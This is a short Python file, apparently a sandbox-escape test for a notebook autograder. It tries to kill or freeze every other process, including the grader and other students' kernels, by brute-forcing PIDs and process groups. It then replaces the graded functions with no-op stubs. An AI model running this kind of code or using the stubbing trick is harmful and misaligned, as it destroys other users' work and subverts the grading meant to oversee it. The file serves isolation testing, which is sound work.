"""Kills or stops every other process it can see or guess: the grader, its kernels, the
classmate graded at the same time."""

# status: graded
# place: target
import json
import os
import signal

me, hits = os.getpid(), []
mine = {int(t) for t in os.listdir(f"/proc/{me}/task")}  # this kernel's own threads
visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
for pid in sorted({*visible, *range(1, 5000)} - mine):
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
            if pid != 1:
                hits.append(pid)
        except OSError:
            pass
for pgid in range(1, 5000):
    if pgid != os.getpgid(0):
        try:
            os.killpg(pgid, signal.SIGKILL)
            hits.append(-pgid)
        except OSError:
            pass
print("ATTACK-FOUND", json.dumps(sorted(set(hits))))

for name in GRADED:  # noqa: F821
    globals()[name] = lambda *args, **kwargs: None
